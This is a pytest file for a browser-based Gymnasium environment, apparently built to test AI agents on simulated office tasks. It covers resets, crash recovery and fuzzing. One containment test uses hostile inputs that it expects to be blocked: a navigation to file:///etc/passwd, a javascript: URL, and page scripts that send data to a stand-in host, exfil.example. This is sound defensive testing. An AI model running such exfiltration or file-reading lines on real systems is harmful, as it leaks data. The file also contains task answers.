"""DeskEnv in a real browser: the Gymnasium contract, resets that leave nothing
behind, containment, a browser that dies, and a fuzzing agent."""
from __future__ import annotations

import asyncio
import json
import threading

import gymnasium as gym
import numpy as np
import pytest
from gymnasium.utils.env_checker import check_env

import harness
from harness.agents import make
from harness.tasks.schema import ANSWER_SENTENCE
from harness.env import DeskEnv, ResetNeeded, make_env
from harness.runs.episode import run_episode
from harness.tasks.registry import load_task

pytestmark = pytest.mark.browser

TASK = "meridian/gross-tonnage"


@pytest.fixture(scope="module")
def env():
    e = DeskEnv(TASK)
    yield e
    e.close()


def test_registered_env_passes_check_env():
    env = gym.make(harness.ENV_ID, task=TASK)
    try:
        check_env(env.unwrapped)
        assert env.spec.nondeterministic is False
    finally:
        env.close()
    env.close()                                   # idempotent


def test_the_wrapped_env_passes_check_env_and_repeats_its_last_observation_when_broken():
    """The wrappers (tools, set-of-marks) pass Gymnasium's checker; with every dict wrapper the keys
    come in their one order, and a step that breaks the environment gives the last observation
    again, wrappers' keys included. (``axtree=True`` is left out of ``check_env``: Playwright numbers
    the snapshot's refs per page, ``e1`` on a new page and ``f1e1`` after it navigated, so two
    resets with one seed differ there — as they did when it was a ``DeskEnv`` flag.)"""
    env = gym.make(harness.ENV_ID, task=TASK, tools=True, som=True)
    try:
        # The wrapped env is the one under test: its warning that it is not env.unwrapped is expected.
        with pytest.warns(UserWarning, match="different from the unwrapped version"):
            check_env(env)
    finally:
        env.close()
    env = make_env(TASK, tools=True, axtree=True, som=True)
    try:
        obs, info = env.reset(seed=0)
        assert list(obs) == ["screenshot", "url", "goal", "last_action_error", "user_reply", "tool_result", "axtree", "som"]
        assert obs in env.observation_space and info == {"step": 0, "task": TASK, "status": "ok"}
        session = env.unwrapped.session
        session.call(lambda: session.browser.close())                 # the browser dies mid-episode
        again, r, term, trunc, info = env.step({"type": "click", "x": 90, "y": 192})
        assert info["status"] == "error" and trunc and list(again) == list(obs)
        assert again["axtree"] == obs["axtree"] and again["som"]["elements"] == obs["som"]["elements"]
        assert np.array_equal(again["som"]["image"], obs["som"]["image"]) and again["tool_result"] == ""
        assert np.array_equal(again["screenshot"], obs["screenshot"]) and again in env.observation_space
    finally:
        env.close()


def test_observation_action_reward_and_episode_end(env):
    with pytest.raises(ResetNeeded):
        DeskEnv(TASK).step({"type": "wait", "ms": 0})
    obs, info = env.reset(seed=0)
    assert obs["screenshot"].shape == (800, 1280, 3) and obs["screenshot"].dtype == np.uint8
    assert obs["url"] == "http://desk.local/drive/my-drive" and obs["goal"].startswith("What is the gross tonnage")
    assert obs["goal"].endswith(ANSWER_SENTENCE)
    assert obs in env.observation_space and info == {"step": 0, "task": TASK, "status": "ok"}
    obs, r, term, trunc, info = env.step("{not json")
    assert "not valid JSON" in obs["last_action_error"] and (r, term, trunc) == (0.0, False, False)
    obs, r, term, trunc, info = env.step({"type": "click", "x": 2000, "y": 10})
    assert "outside the screen" in obs["last_action_error"] and info["step"] == 2
    obs, r, term, trunc, info = env.step({"type": "done", "answer": "ANSWER: 58,400"})
    assert term and not trunc and r == 1.0 and info["result"]["passed"]
    with pytest.raises(ResetNeeded):
        env.step({"type": "wait", "ms": 0})


def test_truncation_runs_the_verifier(env):
    env.reset(options={"task": load_task(TASK)})
    env.max_steps = 2
    try:
        env.step({"type": "wait", "ms": 0})
        obs, r, term, trunc, info = env.step({"type": "wait", "ms": 0})
        assert trunc and not term and info["result"]["status"] == "failed"
    finally:
        env.max_steps = None


def test_same_state_same_pixels(env):
    a, _ = env.reset(seed=1)
    b, _ = env.reset(seed=2)
    assert np.array_equal(a["screenshot"], b["screenshot"])
    env.step({"type": "click", "x": 90, "y": 192})            # Shared with me
    c, *_ = env.step({"type": "wait", "ms": 0})
    env.reset()
    env.step({"type": "click", "x": 90, "y": 192})
    d, *_ = env.step({"type": "wait", "ms": 0})
    assert c["url"].endswith("/drive/shared") and np.array_equal(c["screenshot"], d["screenshot"])


def test_reset_leaves_nothing_behind(env):
    u = env.unwrapped
    env.reset(options={"task": load_task("meridian/send-survey-to-pryce")})
    # Marks everywhere: storage, an extra cookie, history, a saved draft, and a pending autosave.
    u.session.page_call(lambda p: p.evaluate("() => { localStorage.setItem('mark', '1'); sessionStorage.setItem('mark', '1'); }"))
    u.session.page_call(lambda p: p.context.add_cookies([{"name": "mark", "value": "1", "url": p.url}]))
    env.step({"type": "navigate", "url": "/drive/my-drive"})
    env.step({"type": "navigate", "url": "/mail/inbox"})
    box = u.session.page_call(lambda p: p.get_by_role("button", name="Compose").bounding_box())
    env.step({"type": "click", "x": int(box["x"] + 20), "y": int(box["y"] + 20)})
    env.step({"type": "type", "text": "draft that must not survive"})
    body = u.session.page_call(lambda p: p.get_by_label("Message Body").bounding_box())
    env.step({"type": "click", "x": int(body["x"] + 50), "y": int(body["y"] + 20)})
    u.session.page_call(lambda p: p.keyboard.type("pending autosave"))          # typed, autosave not yet fired
    with u.session.store() as st:
        assert st.scalar("SELECT count(*) FROM mail_drafts WHERE owner='alex.chen'") >= 1
    obs, _ = env.reset(options={"task": load_task("meridian/send-survey-to-pryce")})
    state = u.session.page_call(lambda p: p.evaluate(
        "() => [localStorage.length, sessionStorage.length, history.length, document.cookie]"))
    assert state[:3] == [0, 0, 1], state
    cookies = u.session.page_call(lambda p: p.context.cookies())
    assert [c["name"] for c in cookies] == ["deskworld_session"]
    u.session.page_call(lambda p: p.wait_for_timeout(1500))                    # any late autosave would land now
    with u.session.store() as st:
        assert st.scalar("SELECT count(*) FROM mail_drafts WHERE owner='alex.chen'") == 0
        from apps.core.store.export import export
        assert export(st) == u.session.desk().initial
    assert obs["url"] == "http://desk.local/mail/inbox"


def test_an_edit_saved_on_leaving_the_page_stays_in_its_episode(env):
    """Docs (and Slides) save a pending edit when the page is left (``beforeunload``). At reset
    that save must land in the old episode, which the restore throws away — never in the new
    one (it used to: the new session cookie was set before the old page was left, so the
    save went through as the new episode's first write and failed it for collateral damage)."""
    u = env.unwrapped
    env.reset(options={"task": load_task(TASK)})
    with u.session.store() as st:
        doc = st.scalar("SELECT d.id FROM docs_documents d JOIN drive_items i ON i.id = d.item "
                        "WHERE i.name LIKE 'Objection to Amount of Limitation Fund%'")   # Alex may edit it
    env.step({"type": "navigate", "url": f"/docs/d/{doc}"})
    para = u.session.page_call(lambda p: p.locator("#doc-content > *").first.bounding_box())
    env.step({"type": "click", "x": int(para["x"] + 5), "y": int(para["y"] + para["height"] / 2)})
    u.session.page_call(lambda p: p.keyboard.type("LEFT BEHIND"))   # typed: the 700 ms autosave is pending
    env.reset(options={"task": load_task(TASK)})
    # The page that saved on leaving has gone; wait until the new page has nothing in flight.
    env.step({"type": "wait", "ms": 0})
    with u.session.store() as st:
        from apps.core.store.export import export
        assert export(st)["writes"] == []                          # nothing written in this episode yet
        assert not st.scalar("SELECT count(*) FROM docs_blocks WHERE text LIKE '%LEFT BEHIND%'")


def test_off_origin_is_blocked_and_reported(env):
    env.reset(options={"task": load_task(TASK)})
    for url in ("https://example.com/", "file:///etc/passwd", "chrome://settings", "http://127.0.0.1:9/x",
                "javascript:alert(1)"):
        obs, *_ = env.step({"type": "navigate", "url": url})
        assert "not allowed" in obs["last_action_error"], url
        assert obs["url"].startswith("http://desk.local/")
    # The page itself trying to leave (or to send data out) is stopped too.
    env.unwrapped.session.page_call(lambda p: p.evaluate("() => { location.href = 'http://exfil.example/?d=secret'; }"))
    obs, *_ = env.step({"type": "wait", "ms": 0})
    assert "blocked" in obs["last_action_error"] and obs["url"].startswith("http://desk.local/")
    env.unwrapped.session.page_call(lambda p: p.evaluate("() => { fetch('http://exfil.example/x').catch(() => 0); }"))
    obs, *_ = env.step({"type": "wait", "ms": 100})
    assert "blocked" in obs["last_action_error"]
    obs, *_ = env.step({"type": "navigate", "url": "http://desk.local/mail/inbox"})
    assert obs["last_action_error"] == "" and obs["url"] == "http://desk.local/mail/inbox"


def test_optional_axtree_and_set_of_marks():
    with make_env(TASK, axtree=True, som=True) as e:
        obs, _ = e.reset()
        assert obs in e.observation_space
        assert 'link "Shared with me"' in obs["axtree"]
        assert "Shared with me" in obs["som"]["elements"]
        assert obs["som"]["image"].shape == (800, 1280, 3)
        assert not np.array_equal(obs["som"]["image"], obs["screenshot"])


def test_env_works_inside_a_running_asyncio_loop():
    async def main():
        loop = asyncio.get_running_loop()
        assert loop.is_running()
        with DeskEnv(TASK) as e:
            obs, _ = e.reset()
            obs, r, term, *_ = e.step({"type": "done", "answer": "58400"})
            return obs["url"], r, term
    # A thread of its own for the loop: pytest-playwright's sync Playwright owns this one's.
    out = {}
    t = threading.Thread(target=lambda: out.setdefault("r", asyncio.run(main())))
    t.start()
    t.join(timeout=120)
    assert out.get("r") == ("http://desk.local/drive/my-drive", 1.0, True)


def test_a_killed_browser_ends_the_episode_as_error_and_the_env_recovers():
    e = DeskEnv(TASK)
    try:
        e.reset()
        e.session.call(lambda: e.session.browser.close())             # the browser dies mid-episode
        obs, r, term, trunc, info = e.step({"type": "click", "x": 90, "y": 192})
        assert info["status"] == "error" and trunc and r == 0.0
        assert info["result"]["status"] == "error"
        row = run_episode(e, make("oracle", env=e), load_task(TASK))  # the next episode is fine
        assert row["status"] == "passed"
    finally:
        e.close()


def test_random_agent_300_steps_causes_no_errors():
    task = load_task("meridian/send-survey-to-pryce")
    with DeskEnv(task, max_steps=300) as e:
        agent = make("random", seed=7)
        agent.reset(task)
        obs, _ = e.reset()
        statuses, steps = set(), 0
        while True:
            obs, r, term, trunc, info = e.step(agent.act(obs))
            steps += 1
            statuses.add(info["status"])
            if term or trunc:
                break
        assert steps == 300 and statuses == {"ok"}, (steps, statuses, info.get("error"))
        assert info["result"]["status"] in ("passed", "failed")
        server = e.session.desk().server.url
        for path in ("/mail/inbox", "/drive/my-drive"):
            assert e.session.page_call(lambda p: p.goto(server + path).status) == 200
    assert json.dumps(info["result"])


def test_a_sheet_edit_is_one_action_and_one_settled_screenshot(store):
    """Typing a figure and Enter recomputes the total on the server; the observation after that
    single step already shows it (the settle waits for the request and the grid update)."""
    with DeskEnv("meridian/damages-fix-port-calder") as e:
        e.reset()
        u = e.unwrapped
        book = store.scalar("SELECT ref FROM drive_items WHERE name='Damages Model – Aurelia Dawn'")
        e.step({"type": "navigate", "url": f"/sheets/s/{book}"})
        box = u.session.page_call(lambda p: p.get_by_role("gridcell", name="$6,840,000.00").bounding_box())
        e.step({"type": "click", "x": int(box["x"] + box["width"] / 2), "y": int(box["y"] + box["height"] / 2)})
        obs, *_ = e.step({"type": "type", "text": "6480000\n"})
        shown = u.session.page_call(lambda p: p.evaluate(
            "() => Array.from(document.querySelectorAll('#grid td')).map(t => t.textContent)"))
        assert "$122,755,000.00" in shown and "$123,115,000.00" not in shown
        assert obs["screenshot"].shape == (800, 1280, 3)
